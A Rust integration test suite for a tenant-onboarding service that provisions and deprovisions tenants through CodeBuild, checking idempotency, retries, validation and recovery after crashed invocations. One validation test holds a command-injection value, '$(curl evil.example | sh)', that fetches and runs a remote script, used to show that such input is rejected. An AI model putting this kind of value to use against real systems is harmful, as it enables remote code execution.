//! tenant-onboarding against moto and the CodeBuild stand-in, under the example policy: a request
//! provisions its tenant once (redelivered, repeated, or eight at once), the build's allowed
//! outputs and nothing else reach `Tenant Provisioned`, a failed build is retried as the tier
//! says and then fails with its build, phase and logs, offboarding runs the tier's deprovisioning
//! project, an invalid request is answered with every reason and starts nothing, half-done work
//! is finished by the next event, and sbt-aws's control plane gets its own shapes back.

use std::time::Duration;

use eddo::idempotency::now_epoch;
use eddo::names::TenantId;
use eddo::publish::OutgoingEvent;
use eddo_local::codebuild::Plan;
use eddo_local::fixtures::{self, detail_types as types, example};

use crate::harness::tenants::*;
use eddo_tenant_onboarding::decide::{Job, State};
use eddo_tenant_onboarding::store::Tenant;
use eddo_tenant_onboarding::{RequestSources, Tenants};
use serde_json::json;

#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_is_provisioned_once_with_only_its_allowed_outputs() {
    let s = setup("tn-once").await;
    s.stack.codebuild.plan(
        PROVISION,
        Plan::succeed()
            .exporting("TENANT_URL", "https://acme.app.example")
            .exporting("TENANT_STACK", "tenant-acme")
            // Exported by the build, not allowed by the tier: it never leaves the build.
            .exporting("TENANT_DB_PASSWORD", "hunter2"),
    );
    let request = onboard("acme", "basic", basic_values());
    let first = s.handle(&request).await;
    assert_eq!(first.published, ["Tenant Provisioning Started"]);
    // Redelivered while the build runs: nothing starts, nothing is said.
    let again = s.handle(&request).await;
    assert!(again.published.is_empty(), "{again:?}");
    assert!(
        again.outcome.contains("being provisioned by build"),
        "{again:?}"
    );

    let builds = s.builds(PROVISION);
    assert_eq!(builds.len(), 1);
    let b = &builds[0];
    assert_eq!(b.env("EDDO_TENANT_ID"), Some("acme"));
    assert_eq!(b.env("EDDO_TENANT_ACTION"), Some("provision"));
    assert_eq!(b.env("EDDO_TENANT_TIER"), Some("basic"));
    assert_eq!(b.env("EDDO_ATTEMPT"), Some("1"));
    assert_eq!(b.env("TENANT_NAME"), Some("Acme Corp"));
    assert_eq!(b.env("TENANT_ADMIN_EMAIL"), Some("ops@acme.example"));
    assert_eq!(b.timeout_minutes, 30);
    assert!(
        b.idempotency_token
            .as_deref()
            .unwrap()
            .starts_with("eddo-tenant-")
    );

    let started = s.published().await;
    assert_eq!(types(&started), ["Tenant Provisioning Started"]);
    let d = &started[0]["detail"];
    assert_eq!(d["build_id"], json!(b.id));
    assert_eq!(
        (d["attempt"].as_u64(), d["max_attempts"].as_u64()),
        (Some(1), Some(2))
    );
    assert_eq!(d["project"], PROVISION);
    assert_eq!(d["policy_version"], 1, "the policy version that decided it");
    assert_eq!(d["metadata"]["correlation_id"], "tenant:acme");

    assert_eq!(s.complete_builds().await, 1);
    let done = s.published().await;
    assert_eq!(
        types(&done),
        ["Tenant Provisioned"],
        "said once for two deliveries"
    );
    let d = &done[0]["detail"];
    assert_eq!(
        d["outputs"],
        json!({"TENANT_URL": "https://acme.app.example", "TENANT_STACK": "tenant-acme"})
    );
    assert!(!done[0].to_string().contains("hunter2"));
    assert_eq!(d["repeated"], false);
    let t = s.tenant("acme").await.unwrap();
    assert_eq!(t.state, State::Active);
    assert!(t.pending.is_empty(), "said, so nothing owed");

    // Asked again once active: said again, nothing rebuilt.
    let repeat = s.handle(&onboard("acme", "basic", basic_values())).await;
    assert_eq!(repeat.published, ["Tenant Provisioned"]);
    let said = s.published().await;
    assert_eq!(said[0]["detail"]["repeated"], true);
    assert_eq!(
        said[0]["detail"]["outputs"]["TENANT_URL"],
        "https://acme.app.example"
    );
    assert_eq!(s.builds(PROVISION).len(), 1);
    // Asked for another tier: refused, not moved.
    let other = s
        .handle(&onboard(
            "acme",
            "premium",
            json!({"tenantName": "Acme", "email": "a@acme.example"}),
        ))
        .await;
    assert_eq!(other.published, ["Tenant Onboarding Rejected"]);
    assert!(other.outcome.contains("active in tier basic"), "{other:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn eight_requests_at_once_start_one_build() {
    let s = setup("tn-race").await;
    s.stack
        .codebuild
        .plan(PROVISION, Plan::succeed().lasting(Duration::from_secs(2)));
    let request = onboard("globex", "basic", basic_values());
    let mut tasks = Vec::new();
    for i in 0..8 {
        let t = s.tenants.clone();
        let mut e = request.clone();
        // Distinct deliveries of the same request (a control plane that retried).
        e["id"] = json!(format!("race-{i}"));
        tasks.push(tokio::spawn(async move { t.handle(&e).await }));
    }
    let mut results = Vec::new();
    for t in tasks {
        results.push(t.await.unwrap());
    }
    // An invocation that met another's lease asks Lambda to retry it; the retry finds the
    // build started and starts nothing.
    let mut started = 0;
    for (i, r) in results.into_iter().enumerate() {
        let r = match r {
            Ok(r) => r,
            Err(err) => {
                assert!(matches!(err, eddo::Error::InProgress(_)), "{err}");
                let mut e = request.clone();
                e["id"] = json!(format!("race-{i}"));
                s.handle(&e).await
            }
        };
        started += r.published.len();
    }
    assert_eq!(started, 1, "one Tenant Provisioning Started");
    assert_eq!(s.builds(PROVISION).len(), 1, "one build");
    assert_eq!(s.stack.codebuild.calls(PROVISION), 1, "one StartBuild call");
    assert_eq!(types(&s.published().await), ["Tenant Provisioning Started"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_build_is_retried_as_the_tier_says_then_fails_with_its_reasons() {
    let s = setup("tn-retry").await;
    // basic: one retry. The first attempt fails, the retry succeeds.
    s.stack.codebuild.plan(PROVISION, Plan::fail("BUILD"));
    s.stack.codebuild.plan(
        PROVISION,
        Plan::succeed().exporting("TENANT_URL", "https://initech.app.example"),
    );
    s.handle(&onboard("initech", "basic", basic_values())).await;
    s.complete_builds().await;
    let events = s.published().await;
    assert_eq!(
        types(&events),
        ["Tenant Provisioning Started", "Tenant Provisioning Started"]
    );
    let retry = &events[1]["detail"];
    assert_eq!(retry["attempt"], 2);
    let previous = &retry["previous_attempt"];
    assert_eq!(previous["status"], "FAILED");
    assert_eq!(previous["failed_phase"], "BUILD");
    assert!(
        previous["logs_url"]
            .as_str()
            .unwrap()
            .starts_with("https://")
    );
    let builds = s.builds(PROVISION);
    assert_eq!(builds.len(), 2);
    assert_eq!(builds[1].env("EDDO_ATTEMPT"), Some("2"));
    assert_eq!(builds[1].env("TENANT_NAME"), Some("Acme Corp"));
    assert_ne!(builds[0].idempotency_token, builds[1].idempotency_token);
    s.complete_builds().await;
    assert_eq!(types(&s.published().await), ["Tenant Provisioned"]);

    // premium: two retries, all three attempts fail.
    for _ in 0..3 {
        s.stack.codebuild.plan(PREMIUM, Plan::fail("POST_BUILD"));
    }
    let values = json!({"tenantName": "Hooli", "email": "it@hooli.example"});
    s.handle(&onboard("hooli", "premium", values.clone())).await;
    for _ in 0..3 {
        s.complete_builds().await;
    }
    let events = s.published().await;
    assert_eq!(
        types(&events),
        [
            "Tenant Provisioning Started",
            "Tenant Provisioning Started",
            "Tenant Provisioning Started",
            "Tenant Provisioning Failed"
        ]
    );
    let failed = &events[3]["detail"];
    let last = &s.builds(PREMIUM)[2];
    assert_eq!(failed["build_id"], json!(last.id));
    assert_eq!(failed["failed_phase"], "POST_BUILD");
    assert_eq!(failed["status"], "FAILED");
    assert_eq!(
        (failed["attempt"].as_u64(), failed["max_attempts"].as_u64()),
        (Some(3), Some(3))
    );
    assert!(failed["logs_url"].as_str().unwrap().starts_with("https://"));
    assert!(
        failed["reason"]
            .as_str()
            .unwrap()
            .contains("ended FAILED in phase POST_BUILD, on attempt 3 of 3"),
        "{failed}"
    );
    assert_eq!(s.tenant("hooli").await.unwrap().state, State::Failed);

    // A new request for a failed tenant provisions it again, from attempt 1.
    s.stack.codebuild.plan(PREMIUM, Plan::succeed());
    let again = s.handle(&onboard("hooli", "premium", values)).await;
    assert_eq!(again.published, ["Tenant Provisioning Started"]);
    s.complete_builds().await;
    let events = s.published().await;
    assert_eq!(
        types(&events),
        ["Tenant Provisioning Started", "Tenant Provisioned"]
    );
    assert_eq!(events[0]["detail"]["attempt"], 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn offboarding_runs_the_tiers_deprovisioning_project() {
    let s = setup("tn-off").await;
    // Not registered: refused with the reason.
    let unknown = s.handle(&offboard("umbrella")).await;
    assert_eq!(unknown.published, ["Tenant Offboarding Rejected"]);
    assert_eq!(
        s.published().await[0]["detail"]["reasons"],
        json!(["the tenant is not registered"])
    );

    s.handle(&onboard("umbrella", "basic", basic_values()))
        .await;
    // Being provisioned: refused, the provisioning goes on.
    let early = s.handle(&offboard("umbrella")).await;
    assert_eq!(early.published, ["Tenant Offboarding Rejected"]);
    assert!(early.outcome.contains("being provisioned"), "{early:?}");
    s.complete_builds().await;
    assert_eq!(
        types(&s.published().await),
        [
            "Tenant Provisioning Started",
            "Tenant Offboarding Rejected",
            "Tenant Provisioned"
        ]
    );

    // The same request from a source the control plane does not use (a scanner's, which its
    // role may put; or an invocation of the function): no request, nothing started or said.
    let mut forged = offboard("umbrella");
    forged["source"] = json!("com.example.semgrep");
    let r = s.handle(&forged).await;
    assert!(r.published.is_empty(), "{r:?}");
    assert!(
        r.outcome
            .contains("not a source TenantRequestSources lists"),
        "{r:?}"
    );
    assert!(s.builds(DEPROVISION).is_empty());
    assert_eq!(s.tenant("umbrella").await.unwrap().state, State::Active);

    let request = offboard("umbrella");
    assert_eq!(
        s.handle(&request).await.published,
        ["Tenant Deprovisioning Started"]
    );
    assert!(
        s.handle(&request).await.published.is_empty(),
        "a redelivery starts nothing"
    );
    let builds = s.builds(DEPROVISION);
    assert_eq!(builds.len(), 1);
    assert_eq!(builds[0].env("EDDO_TENANT_ID"), Some("umbrella"));
    // The values it was provisioned with, so the teardown can find what it made.
    assert_eq!(builds[0].env("TENANT_NAME"), Some("Acme Corp"));
    assert_eq!(builds[0].timeout_minutes, 30);
    s.complete_builds().await;
    let events = s.published().await;
    assert_eq!(
        types(&events),
        ["Tenant Deprovisioning Started", "Tenant Deprovisioned"]
    );
    assert_eq!(
        s.tenant("umbrella").await.unwrap().state,
        State::Deprovisioned
    );
    // Asked again: said again.
    assert_eq!(
        s.handle(&offboard("umbrella")).await.published,
        ["Tenant Deprovisioned"]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_invalid_request_is_answered_with_every_reason_and_starts_nothing() {
    let s = setup("tn-invalid").await;
    for (detail, reasons) in [
        (
            json!({"tenant_id": "Acme Corp", "tier": "gold", "values": {}}),
            vec![
                "tenant_id \"Acme Corp\" is not a tenant id",
                "tier \"gold\" is not in the policy (tiers: basic, premium)",
            ],
        ),
        (
            json!({"tenant_id": "acme", "tier": "basic", "values": {"tenantName": "$(curl evil.example | sh)", "plan": "x"}}),
            vec![
                "values.plan is not an input of tier basic",
                "values.tenantName holds '$'",
            ],
        ),
        (
            json!({"tenant_id": "acme", "tier": "premium", "values": {"tenantName": "A\nB"}}),
            vec![
                "values.email is required by tier premium",
                "values.tenantName holds a control character",
            ],
        ),
    ] {
        let mut e = onboard("x", "basic", json!({}));
        e["detail"] = detail.clone();
        // Answered, not failed: Lambda does not retry it.
        let r = s
            .tenants
            .handle(&e)
            .await
            .expect("an invalid request is not an error");
        assert_eq!(r.published, ["Tenant Onboarding Rejected"], "{detail}");
        let events = s.published().await;
        let got: Vec<&str> = events[0]["detail"]["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert_eq!(got.len(), reasons.len(), "{detail}: {got:?}");
        for (g, want) in got.iter().zip(&reasons) {
            assert!(g.starts_with(want), "{detail}: {g} vs {want}");
        }
    }
    assert!(s.stack.codebuild.builds().is_empty(), "nothing started");
    assert!(s.tenant("acme").await.is_none(), "nothing registered");
}

#[tokio::test(flavor = "multi_thread")]
async fn work_a_dead_invocation_left_is_finished_by_the_next_event() {
    let s = setup("tn-resume").await;
    let now = now_epoch();
    // An invocation registered the tenant and died before starting its build.
    let dead = Tenant {
        id: TenantId::parse("stark").unwrap(),
        state: State::Requested,
        tier: "basic".into(),
        rev: 1,
        job: Job::Provision,
        attempt: 1,
        build_id: None,
        values: vec![("TENANT_NAME".into(), "Stark".into())],
        outputs: vec![],
        registration_id: None,
        sbt: false,
        correlation_id: "tenant:stark".into(),
        causation_id: "req-stark".into(),
        last_failure: None,
        pending: vec![],
        lease_until: now + 600,
        lease_id: String::new(),
        updated_at: now,
        decision: String::new(),
        intent: None,
        decided_at: now,
    };
    assert!(s.store().put(&dead, None).await.unwrap());
    let request = onboard("stark", "basic", json!({"tenantName": "Stark"}));
    // Its lease still runs: the redelivery leaves it alone, and asks Lambda to retry it (the
    // lease's holder may be dead, or be this request's own earlier attempt).
    let err = s.tenants.handle(&request).await.unwrap_err();
    assert!(matches!(err, eddo::Error::InProgress(_)), "{err}");
    assert!(s.builds(PROVISION).is_empty());
    // An offboarding meanwhile is answered, not dropped: refused, as while it provisions.
    let r = s.handle(&offboard("stark")).await;
    assert_eq!(r.published, ["Tenant Offboarding Rejected"], "{r:?}");
    let said = s.published().await;
    assert!(
        said[0]["detail"]["reasons"][0]
            .as_str()
            .unwrap()
            .starts_with("the tenant is being provisioned"),
        "{said:#?}"
    );
    // A build's completion while the tenant is being changed waits for Lambda's retry, instead
    // of being judged against a record about to move.
    let mut finished = fixtures::sample("codebuild-build-state-change.json");
    finished["detail"]["project-name"] = json!(PROVISION);
    finished["detail"]["additional-information"]["environment"]["environment-variables"] =
        json!([{"name": "EDDO_TENANT_ID", "value": "stark", "type": "PLAINTEXT"}]);
    let err = s.tenants.handle(&finished).await.unwrap_err();
    assert!(matches!(err, eddo::Error::InProgress(_)), "{err}");
    // The lease lapsed: the next delivery starts the build, once.
    let mut lapsed = s.tenant("stark").await.unwrap();
    lapsed.lease_until = 0;
    lapsed.rev += 1;
    assert!(s.store().put(&lapsed, Some(1)).await.unwrap());
    assert_eq!(
        s.handle(&request).await.published,
        ["Tenant Provisioning Started"]
    );
    assert!(s.handle(&request).await.published.is_empty());
    assert_eq!(s.builds(PROVISION).len(), 1);
    assert_eq!(s.builds(PROVISION)[0].env("TENANT_NAME"), Some("Stark"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_finishes_what_a_dead_invocation_left_then_does_its_own_work() {
    let s = setup("tn-resume-off").await;
    let now = now_epoch();
    // wayne went active, but the invocation died before saying so.
    let detail = json!({
        "metadata": {"schema_version": "1.3", "correlation_id": "tenant:wayne", "causation_id": "build-event-1", "event_key": "0123456789abcdef0123456789abcdef"},
        "tenant_id": "wayne", "tier": "basic", "build_id": format!("{PROVISION}:1"), "attempt": 1,
        "outputs": {"TENANT_URL": "https://wayne.app.example"}, "registration_id": null, "repeated": false
    });
    let unsaid = Tenant {
        id: TenantId::parse("wayne").unwrap(),
        state: State::Active,
        tier: "basic".into(),
        rev: 3,
        job: Job::Provision,
        attempt: 1,
        build_id: Some(format!("{PROVISION}:1")),
        values: vec![("TENANT_NAME".into(), "Wayne".into())],
        outputs: vec![("TENANT_URL".into(), "https://wayne.app.example".into())],
        registration_id: None,
        sbt: false,
        correlation_id: "tenant:wayne".into(),
        causation_id: "build-event-1".into(),
        last_failure: None,
        pending: vec![OutgoingEvent {
            source: "eddo.tenants".into(),
            detail_type: "Tenant Provisioned".into(),
            detail: detail.to_string(),
            resources: vec![],
        }],
        lease_until: 0,
        lease_id: String::new(),
        updated_at: now - 120,
        decision: String::new(),
        intent: None,
        decided_at: now - 120,
    };
    assert!(s.store().put(&unsaid, None).await.unwrap());
    // The offboarding request says what was left unsaid, then offboards.
    let r = s.handle(&offboard("wayne")).await;
    assert_eq!(
        r.published,
        ["Tenant Provisioned", "Tenant Deprovisioning Started"]
    );
    let builds = s.builds(DEPROVISION);
    assert_eq!(builds.len(), 1);
    assert_eq!(builds[0].env("EDDO_TENANT_ACTION"), Some("deprovision"));
    assert_eq!(builds[0].env("TENANT_NAME"), Some("Wayne"));
    assert_eq!(
        types(&s.published().await),
        ["Tenant Provisioned", "Tenant Deprovisioning Started"]
    );
}

/// A retry's build was started and recorded, but the invocation died before saying so (or its
/// answer was lost); the build then finished. Its completion says what was left unsaid first,
/// then what the build's end means. (The completion replaced the unsaid `Tenant Provisioning
/// Started` with `Tenant Provisioned`: a start never announced, found by the soak.)
#[tokio::test(flavor = "multi_thread")]
async fn a_completion_says_what_its_start_left_unsaid_first() {
    let s = setup("tn-unsaid-start").await;
    let now = now_epoch();
    let build = format!("{PROVISION}:unsaid");
    let detail = json!({
        "metadata": {"schema_version": "1.3", "correlation_id": "tenant:oscorp", "causation_id": "build-event-1", "event_key": "fedcba9876543210fedcba9876543210"},
        "tenant_id": "oscorp", "tier": "basic", "project": PROVISION, "build_id": build,
        "attempt": 2, "max_attempts": 2, "timeout_minutes": 30, "registration_id": null
    });
    let unsaid = Tenant {
        id: TenantId::parse("oscorp").unwrap(),
        state: State::Provisioning,
        tier: "basic".into(),
        rev: 4,
        job: Job::Provision,
        attempt: 2,
        build_id: Some(build.clone()),
        values: vec![("TENANT_NAME".into(), "Oscorp".into())],
        outputs: vec![],
        registration_id: None,
        sbt: false,
        correlation_id: "tenant:oscorp".into(),
        causation_id: "build-event-1".into(),
        last_failure: None,
        pending: vec![OutgoingEvent {
            source: "eddo.tenants".into(),
            detail_type: "Tenant Provisioning Started".into(),
            detail: detail.to_string(),
            resources: vec![],
        }],
        lease_until: 0,
        lease_id: String::new(),
        updated_at: now - 600,
        decision: String::new(),
        intent: None,
        decided_at: now - 600,
    };
    assert!(s.store().put(&unsaid, None).await.unwrap());
    let mut done = fixtures::build_state(PROVISION, "main", "SUCCEEDED", None, "unsaid");
    done["detail"]["additional-information"]["environment"]["environment-variables"] =
        json!([{"name": "EDDO_TENANT_ID", "value": "oscorp", "type": "PLAINTEXT"}]);
    let r = s.handle(&done).await;
    assert_eq!(
        r.published,
        ["Tenant Provisioning Started", "Tenant Provisioned"],
        "{r:?}"
    );
    assert_eq!(
        types(&s.published().await),
        ["Tenant Provisioning Started", "Tenant Provisioned"]
    );
    assert_eq!(s.tenant("oscorp").await.unwrap().state, State::Active);
    assert!(s.handle(&done).await.published.is_empty(), "said once");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_sbt_aws_control_plane_gets_answers_in_its_own_shape() {
    let s = setup("tn-sbt").await;
    s.stack.codebuild.plan(
        PREMIUM,
        Plan::succeed().exporting("TENANT_URL", "https://b.app.example"),
    );
    let request = example("sbt-onboarding-request.json");
    assert_eq!(
        s.handle(&request).await.published,
        ["Tenant Provisioning Started"]
    );
    let b = &s.builds(PREMIUM)[0];
    assert_eq!(
        b.env("EDDO_TENANT_ID"),
        Some("e6878e03-ae2c-43ed-a863-08314487318b")
    );
    assert_eq!(b.env("TENANT_NAME"), Some("tenant-b"));
    s.complete_builds().await;
    let answer = s.answers().await;
    assert_eq!(answer.len(), 1, "{answer:?}");
    assert_eq!(answer[0]["detail-type"], "sbt_aws_provisionSuccess");
    assert_eq!(answer[0]["source"], "sbt.application.plane");
    assert_eq!(
        answer[0]["detail"],
        json!({
            "tenantId": "e6878e03-ae2c-43ed-a863-08314487318b",
            "tenantRegistrationId": "0b9c3f4c-71a2-4b8e-9a51-1f0d2f8b6c11",
            "jobOutput": {"tenantData": {"TENANT_URL": "https://b.app.example"}, "tenantRegistrationData": {}}
        })
    );
    crate::sbt::assert_contract("current", "provision-success", &answer[0]);
    assert!(
        answer[0]["detail"].get("metadata").is_none(),
        "sbt-aws's shape, not eddo's"
    );
    let ours = s.published().await;
    assert_eq!(
        types(&ours),
        ["Tenant Provisioning Started", "Tenant Provisioned"]
    );
    assert_eq!(
        ours[1]["detail"]["registration_id"],
        "0b9c3f4c-71a2-4b8e-9a51-1f0d2f8b6c11"
    );

    // An offboarding that names another registration of the tenant id (an earlier one, say)
    // ends nothing: answered with deprovisionFailure, saying why, and no build starts.
    let mut earlier = example("sbt-offboarding-request.json");
    earlier["id"] = json!("sbt-offboard-earlier-registration");
    earlier["detail"]["tenantRegistrationId"] = json!("an-earlier-registration");
    s.handle(&earlier).await;
    let refused = s.answers().await;
    assert_eq!(refused.len(), 1, "{refused:#?}");
    assert_eq!(refused[0]["detail-type"], "sbt_aws_deprovisionFailure");
    assert!(
        refused[0]["detail"]["jobOutput"]["tenantRegistrationData"]["failureReason"]
            .as_str()
            .unwrap()
            .contains("the offboarding names registration an-earlier-registration, but the tenant is registration 0b9c3f4c-71a2-4b8e-9a51-1f0d2f8b6c11"),
        "{refused:#?}"
    );
    assert!(s.builds(DEPROVISION).is_empty(), "nothing deprovisioned");
    s.published().await;

    // A failure, and an invalid request, are answered with provisionFailure and the reason.
    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
    s.stack.codebuild.plan(DEPROVISION, Plan::fail("BUILD"));
    s.handle(&example("sbt-offboarding-request.json")).await;
    for _ in 0..3 {
        s.complete_builds().await;
    }
    let mut bad = example("sbt-onboarding-request.json");
    bad["detail"]["tenantId"] = json!("Not A Label");
    bad["detail"]["tenantRegistrationId"] = json!("reg-2");
    s.handle(&bad).await;
    let answers = s.answers().await;
    assert_eq!(
        answers
            .iter()
            .map(|e| e["detail-type"].as_str().unwrap())
            .collect::<Vec<_>>(),
        ["sbt_aws_deprovisionFailure", "sbt_aws_provisionFailure"]
    );
    crate::sbt::assert_contract("current", "deprovision-failure", &answers[0]);
    crate::sbt::assert_contract("current", "provision-failure", &answers[1]);
    // Why, where sbt-aws's control plane stores it: on the registration.
    let failed = &answers[0]["detail"]["jobOutput"];
    assert_eq!(failed["tenantStatus"], "Failed to deprovision tenant.");
    let stored = &failed["tenantRegistrationData"];
    assert_eq!(stored["registrationStatus"], "failed");
    assert_eq!(stored["failedPhase"], "BUILD");
    assert!(stored["logsUrl"].as_str().unwrap().starts_with("https://"));
    assert!(
        stored["failureReason"]
            .as_str()
            .unwrap()
            .contains("on attempt 3 of 3"),
        "{failed}"
    );
    let rejected = &answers[1]["detail"];
    assert_eq!(rejected["tenantRegistrationId"], "reg-2");
    assert!(
        rejected["jobOutput"]["tenantRegistrationData"]["failureReason"]
            .as_str()
            .unwrap()
            .contains("tenantId \"Not A Label\" is not a tenant id"),
        "{rejected}"
    );
}

/// The AWS calls behind each kind of event, counted (PutEvents aside: one call per event said).
#[tokio::test(flavor = "multi_thread")]
async fn each_event_costs_few_aws_calls() {
    let s = setup("tn-calls").await;
    let calls = crate::harness::Calls::default();
    let sdk = &crate::harness::function_sdk(&s.stack, "tenant-onboarding").await;
    let config = crate::harness::policy_config(&s.stack, "tenant-onboarding");
    let policy = eddo::policy::load(sdk, &config.policy).await.unwrap();
    let env = crate::harness::function_env(&s.stack, "tenant-onboarding");
    let tenants = Tenants::new(&config, policy, sdk)
        .with_request_sources(RequestSources::from_env(&env))
        .with_dynamodb(
            crate::harness::counted_dynamodb(sdk, &calls),
            &config.common.table_name,
        )
        .with_codebuild(crate::harness::counted_stand_in(sdk, &s.stack, &calls));
    let request = onboard("cyberdyne", "basic", basic_values());
    tenants.handle(&request).await.unwrap();
    assert_eq!(
        calls.take(),
        [
            "DynamoDB.GetItem",
            "DynamoDB.TransactWriteItems",
            "CodeBuild.StartBuild",
            "DynamoDB.PutItem",
            "DynamoDB.UpdateItem",
        ],
        "a new tenant: read, register with the request's claim, start, record the build, note it said"
    );
    tenants.handle(&request).await.unwrap();
    assert_eq!(
        calls.take(),
        ["DynamoDB.GetItem"],
        "a redelivery: read, nothing else"
    );
    assert!(s.stack.codebuild.settle(Duration::from_secs(20)).await);
    let finished = s
        .stack
        .drain(
            &s.stack.matched["TenantOnboardingFunctionTenantBuilds"],
            Duration::from_secs(2),
        )
        .await
        .unwrap();
    tenants.handle(&finished[0]).await.unwrap();
    assert_eq!(
        calls.take(),
        [
            "DynamoDB.GetItem",
            "DynamoDB.PutItem",
            "DynamoDB.UpdateItem"
        ],
        "a completion: read, move, note it said"
    );
    tenants.handle(&request).await.unwrap();
    assert_eq!(
        calls.take(),
        ["DynamoDB.GetItem"],
        "a repeat for an active tenant"
    );
}
